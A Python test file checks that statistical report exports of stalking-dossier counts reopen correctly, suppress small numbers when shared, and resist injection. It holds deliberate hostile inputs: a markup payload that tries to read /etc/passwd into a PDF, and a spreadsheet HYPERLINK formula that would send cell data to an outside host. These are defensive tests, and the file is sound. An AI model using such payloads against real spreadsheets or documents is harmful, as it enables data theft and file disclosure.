"""Files are opened again and compared with what was counted, cell by cell."""

import csv
import datetime as dt
import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from pypdf import PdfReader
from python_calamine import CalamineWorkbook

from accounts.models import Centre
from reporting.asking import Ask
from reporting.exports import FORMATS, Document, Maker, document_of
from reporting.exports.document import BOTH, BREAKDOWNS, BY_CENTRE, BY_YEAR, Amount
from reporting.exports.json import as_json
from reporting.protected import count_as
from reporting.tables import TOTAL, CentreName, FigureTable, State
from tests import make
from tests.database import as_owner
from tests.reporting.sharing import for_sharing

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("a_fixed_day")]
MAKER = Maker("Ilse Maes", dt.datetime(2026, 11, 23, 12, 30, tzinfo=dt.UTC))


@pytest.fixture
def centres() -> list[Centre]:
    antwerp = make.centre("Veilig Huis Antwerpen", opened_on=dt.date(2012, 1, 1))
    leuven = make.centre("Veilig Huis Leuven", opened_on=dt.date(2023, 11, 25))
    for centre, year, answers in (
        (antwerp, 2024, ["yes"] * 8 + ["no"] * 11 + ["unknown"] * 2),
        (antwerp, 2025, ["yes"] * 6 + ["no"] * 9),
        (leuven, 2024, ["yes"] * 3 + ["no"] * 7),
    ):
        for answer in answers:
            make.dossier(centre, stalking=answer, received_on=dt.date(year, 5, 1))
    make.dossier(antwerp, received_on=dt.date(2024, 5, 1), counting_exclusion="duplicate")
    return [antwerp, leuven]


def count(centres: list[Centre], profile: str = "internal") -> FigureTable:
    with as_owner():
        return count_as(Ask("dossiers_stalking", 2022, 2026, profile=profile), centres)


@pytest.fixture
def table(centres: list[Centre]) -> FigureTable:
    return count(centres)


def written(table: FigureTable, code: str, per: str = BOTH) -> bytes:
    return FORMATS[code].write(document_of(table, per=per, maker=MAKER))


def expected_rows(document: Document) -> list[list[Any]]:
    """What a data file must hold: every amount as a number (or nothing) and its state."""
    rows = []
    for row in document.rows:
        values: list[Any] = []
        for value in row.values:
            values += [value.value, value.state] if isinstance(value, Amount) else [value]
        rows.append(values)
    return rows


def headings(document: Document) -> list[str]:
    names: list[str] = []
    for column in document.columns:
        names.append(column.label)
        if column.is_amount:
            names.append(f"Toestand {column.label[0].lower()}{column.label[1:]}")
    return names


def read_csv(body: bytes) -> tuple[list[list[str]], list[list[str]]]:
    """The rows above the empty line, and those below."""
    assert body.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    empty = lines.index([])
    return lines[:empty], lines[empty + 1 :]


def csv_number(text: str) -> Decimal | None:
    return Decimal(text.replace(",", ".")) if text else None


class TestDocument:
    def test_every_cell_and_total_is_a_row(self, table: FigureTable) -> None:
        rows = {per: document_of(table, per=per, maker=MAKER).rows for per in BREAKDOWNS}
        assert [len(rows[per]) for per in (BOTH, BY_CENTRE, BY_YEAR)] == [10 + 2 + 5 + 1, 3, 6]
        assert [row.is_total for row in rows[BOTH]] == [False] * 10 + [True] * 8

    def test_the_explanation_is_complete(self, table: FigureTable) -> None:
        lines = {
            line.label: line.text for line in document_of(table, per=BOTH, maker=MAKER).explanation
        }
        assert lines["Cijfer"] == "Dossiers met stalking"
        assert lines["Periode"] == "2022–2026 (lopend jaar, tot 23.11.2026)"
        assert lines["Teleenheid"].startswith("Dossier: van een Veilig Huis")
        assert (
            lines["Dekking"] == "8 van 9 cijfers van een centrum in een jaar, waarvan 4 onvolledig"
        )
        assert lines["Aantal niet meegeteld: dubbel"] == "1"
        assert lines["Aantal niet meegeteld: ingetrokken"] == "0"
        assert lines["Stand"] == "23.11.2026, 13.00 u."
        assert lines["Gemaakt door"] == "Ilse Maes, 23.11.2026, 13.30 u."
        assert lines["Toestand “n.v.t.”"].startswith("Niet van toepassing")
        assert "Toestand “verborgen”" not in lines
        assert {"Bron", "Wet", "Definitie", "Geteld op", "Niet meegeteld"} <= lines.keys()

    def test_a_shared_file_says_so(self, centres: list[Centre]) -> None:
        document = document_of(count(centres, "parliament"), per=BOTH, maker=MAKER)
        lines = {line.label: line.text for line in document.explanation}
        assert "1 tot en met 4" in lines["Kleine aantallen"]
        assert lines["Toestand “verborgen”"].startswith("Weggelaten")
        assert lines["Aantal niet meegeteld: dubbel"] == "verborgen"
        assert document.file_stem == "dossiers-stalking-2022-2026-gedeeld"


def number_columns(head: list[str]) -> list[int]:
    """Where the columns are that have a state column beside them."""
    return [at for at, name in enumerate(head[1:]) if name.startswith("Toestand ")]


class TestCsv:
    @pytest.mark.parametrize("per", BREAKDOWNS)
    def test_reopened_it_is_the_table(self, table: FigureTable, per: str) -> None:
        document = document_of(table, per=per, maker=MAKER)
        (head, *rows), below = read_csv(written(table, "csv", per))
        assert head == headings(document)
        amounts = number_columns(head)
        found = [
            [csv_number(cell) if at in amounts else cell for at, cell in enumerate(row)]
            for row in rows
        ]
        assert found == expected_rows(document)
        assert below[0] == ["Toelichting"]
        assert below[1:] == [[line.label, line.text] for line in document.explanation]

    def test_the_values_themselves(self, table: FigureTable) -> None:
        (_head, *rows), _below = read_csv(written(table, "csv"))
        by_place = {(row[0], row[1]): row[3:] for row in rows}
        assert by_place["Veilig Huis Antwerpen", "2024"][:10] == [
            *("8", "geteld", "2", "geteld", "11", "geteld", "21", "geteld", "9,5", "geteld"),
        ]
        assert by_place["Veilig Huis Leuven", "2022"][:2] == ["", "n.v.t."]
        assert by_place["Veilig Huis Antwerpen", "2022"][:2] == [
            "",
            "niet geregistreerd (pas sinds 01.10.2023)",
        ]
        assert by_place["Veilig Huis Leuven", "2025"][:10] == [
            *("0", "geteld", "0", "geteld", "0", "geteld", "0", "geteld", "", "n.v.t."),
        ]
        assert by_place["alle centra", "alle jaren"][:1] == ["17"]

    def test_excel_in_dutch_opens_it(self, table: FigureTable) -> None:
        body = written(table, "csv")
        assert body.count(b"\r\n") == body.count(b"\n")
        assert body.splitlines()[0].count(b";") == 16


@pytest.mark.parametrize("code", ["xlsx", "ods"])
class TestSpreadsheets:
    @pytest.mark.parametrize("per", BREAKDOWNS)
    def test_reopened_it_is_the_table(self, table: FigureTable, code: str, per: str) -> None:
        document = document_of(table, per=per, maker=MAKER)
        book = CalamineWorkbook.from_filelike(io.BytesIO(written(table, code, per)))
        assert book.sheet_names == ["Cijfers", "Toelichting"]
        head, *rows = book.get_sheet_by_name("Cijfers").to_python()
        assert head == headings(document)
        expected = expected_rows(document)
        assert len(rows) == len(expected)
        for row, wanted in zip(rows, expected, strict=True):
            padded = [*row, *[""] * (len(wanted) - len(row))]
            for cell, value in zip(padded, wanted, strict=True):
                assert_same(cell, value)
        explanation = book.get_sheet_by_name("Toelichting").to_python()
        assert explanation == [[line.label, line.text] for line in document.explanation]

    def test_a_number_column_holds_no_text(self, table: FigureTable, code: str) -> None:
        book = CalamineWorkbook.from_filelike(io.BytesIO(written(table, code)))
        head, *rows = book.get_sheet_by_name("Cijfers").to_python()
        numbers = number_columns([str(name) for name in head])
        assert len(numbers) == 6
        cells = [row[at] for row in rows for at in numbers]
        assert all(cell == "" or isinstance(cell, int | float) for cell in cells)
        assert "" in cells
        assert 0 in cells


def assert_same(cell: Any, value: Any) -> None:
    if value is None:
        assert cell == ""
    elif isinstance(value, str):
        assert cell == value
    else:
        assert isinstance(cell, int | float)
        assert not isinstance(cell, bool)
        assert Decimal(str(cell)) == value


class TestOds:
    def test_the_kind_of_file_stands_first_and_plain(self, table: FigureTable) -> None:
        body = written(table, "ods")
        assert body[30:38] == b"mimetype"
        assert body[38:84] == b"application/vnd.oasis.opendocument.spreadsheet"
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            assert archive.testzip() is None
            named = ET.fromstring(archive.read("META-INF/manifest.xml"))  # noqa: S314
            paths = {value for entry in named for key, value in entry.items() if "full-path" in key}
            assert paths == {"/", "content.xml", "styles.xml", "meta.xml"}
            for name in paths - {"/"}:
                ET.fromstring(archive.read(name))  # noqa: S314


class TestPdf:
    def test_it_is_tagged_and_says_everything(self, table: FigureTable) -> None:
        reader = PdfReader(io.BytesIO(written(table, "pdf")))
        root: Any = reader.trailer["/Root"]
        assert root["/MarkInfo"]["/Marked"]
        assert root["/Lang"] == "nl-BE"
        assert reader.metadata
        assert reader.metadata.title == "Dossiers met stalking"
        tags = set(structure(root["/StructTreeRoot"]))
        assert {"/Table", "/TR", "/TH", "/TD", "/H1", "/H2"} <= tags
        assert b"pdfuaid:part" in reader.xmp_metadata.stream.get_data()  # type: ignore[union-attr]
        text = " ".join(" ".join(page.extract_text() for page in reader.pages).split())
        for words in (
            "Veilig Huis Antwerpen",
            "n.v.t.",
            "niet geregistreerd",
            "lopend jaar, tot 23.11.2026",
            "Toelichting",
            "Gemaakt door Ilse Maes op 23.11.2026, 13.30 u.",
            "de vraag “Is er stalking (belaging) in dit dossier?” is beantwoord met ja"[3:],
        ):
            assert words in text
        assert "8 2 11 21" in text

    def test_a_name_is_never_markup(self, table: FigureTable) -> None:
        nasty = '#read("/etc/passwd") $x$ *vet* <kop> \\ // -- [a] @b'
        named = replace(table, centres=tuple(replace(c, name=nasty) for c in table.centres))
        reader = PdfReader(io.BytesIO(written(named, "pdf")))
        text = " ".join(reader.pages[0].extract_text().split())
        assert "#read(" in text
        assert "*vet*" in text
        assert "root:" not in text

    def test_letters_without_a_shape_do_not_break_it(self, table: FigureTable) -> None:
        named = replace(
            table, centres=tuple(replace(c, name="安全 Huis 🏠") for c in table.centres)
        )
        assert PdfReader(io.BytesIO(written(named, "pdf"))).pages


def structure(node: Any) -> Iterator[str]:
    node = node.get_object()
    if isinstance(node, list):
        for child in node:
            yield from structure(child)
    elif isinstance(node, dict):
        if "/S" in node:
            yield str(node["/S"])
        if "/K" in node:
            yield from structure(node["/K"])


@pytest.mark.parametrize("code", ["csv", "xlsx", "ods"])
def test_no_text_is_a_formula(table: FigureTable, code: str) -> None:
    bad = '=HYPERLINK("http://example.org?x="&A1,"klik")'
    named = replace(table, centres=tuple(CentreName(c.id, c.code, bad) for c in table.centres))
    body = FORMATS[code].write(document_of(named, per=BOTH, maker=Maker("@SUM(1)", MAKER.at)))
    if code == "csv":
        (_head, first, *_rows), below = read_csv(body)
        assert first[0] == f"'{bad}"
        assert below[-1][1].startswith("'@SUM")
        return
    book = CalamineWorkbook.from_filelike(io.BytesIO(body))
    assert book.get_sheet_by_name("Cijfers").to_python()[1][0] == f"'{bad}"
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        parts = b"".join(archive.read(name) for name in archive.namelist())
    assert b"<f>" not in parts
    assert b"table:formula" not in parts
    assert b"<hyperlink" not in parts


def test_json_holds_codes_values_and_states(table: FigureTable, centres: list[Centre]) -> None:
    data = json.loads(json.dumps(as_json(table, per=BOTH)))
    by_place = {(row["centre"], row["year"]): row for row in data["figures"]}
    antwerp, leuven = (centre.code for centre in centres)
    assert by_place[antwerp, 2024]["stalking"] == {"value": 8, "state": "counted"}
    assert by_place[antwerp, 2024]["share_unknown"] == {"value": 9.5, "state": "counted"}
    assert by_place[leuven, 2022]["all"] == {"value": None, "state": "not_applicable"}
    assert by_place[None, None]["coverage"] == {"counted": 8, "applicable": 9, "incomplete": 4}
    assert data["left_out"]["duplicate"] == {"value": 1, "state": "counted"}


class TestSharedFile:
    """The small-cell rule reaches every format; the attack itself is in test_disclosure.py."""

    @pytest.mark.parametrize("code", ["csv", "xlsx", "ods", "pdf"])
    def test_small_numbers_are_in_no_format(self, centres: list[Centre], code: str) -> None:
        shared = count(centres, "parliament")
        leuven = next(c.id for c in shared.centres if "Leuven" in c.name)
        assert shared.cell(leuven, 2024)["stalking"].state is State.HIDDEN
        body = written(shared, code)
        if code == "csv":
            (_head, *rows), _below = read_csv(body)
            small = [cell for row in rows for cell in row[3:13:2] if cell in {"1", "2", "3", "4"}]
            assert small == []
        elif code == "pdf":
            text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)
            assert "verborgen" in text
        else:
            sheet = CalamineWorkbook.from_filelike(io.BytesIO(body)).get_sheet_by_name("Cijfers")
            cells = [cell for row in sheet.to_python()[1:] for cell in row[3:13:2]]
            assert not {1, 2, 3, 4} & set(cells)

    def test_the_filter_does_not_decide_what_is_hidden(self, centres: list[Centre]) -> None:
        whole = count(centres, "parliament")
        ask = Ask("dossiers_stalking", 2024, 2025, centres=(centres[0].code,), profile="parliament")
        with as_owner():
            part = count_as(ask, centres)
        for place, cell in part.cells.items():
            if TOTAL not in place:
                assert cell.figures == whole.cells[place].figures
        assert part.left_out == whole.left_out

    def test_the_owners_own_table_hides_nothing(self, table: FigureTable) -> None:
        figures = [figure for cell in table.cells.values() for figure in cell.figures.values()]
        assert State.HIDDEN not in {figure.state for figure in figures}
        assert for_sharing(table, threshold=5) != table
